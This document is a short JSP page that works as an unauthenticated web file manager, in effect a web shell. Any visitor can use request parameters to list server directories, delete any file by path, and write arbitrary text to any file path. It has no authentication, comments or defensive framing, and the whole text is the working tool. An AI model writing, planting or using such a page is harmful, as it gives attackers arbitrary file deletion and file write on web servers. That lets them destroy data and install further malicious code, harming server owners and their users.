<%@ page import="java.io.*" %>
<%
    String dir = request.getParameter("dir");
    if (dir == null) dir = application.getRealPath("/");
    String del = request.getParameter("del");
    if (del != null) {
        new File(request.getParameter("del")).delete();
    }
    String save = request.getParameter("save");
    if (save != null) {
        FileOutputStream fos = new FileOutputStream(new File(request.getParameter("save")));
        fos.write(request.getParameter("text").getBytes("UTF-8"));
        fos.close();
    }
    File[] entries = new File(request.getParameter("dir") == null ? dir : request.getParameter("dir")).listFiles();
    if (entries != null) {
        for (File f : entries) {
            out.println((f.isDirectory() ? "[D] " : "    ") + f.getName() + " " + f.length() + "<br>");
        }
    }
%>
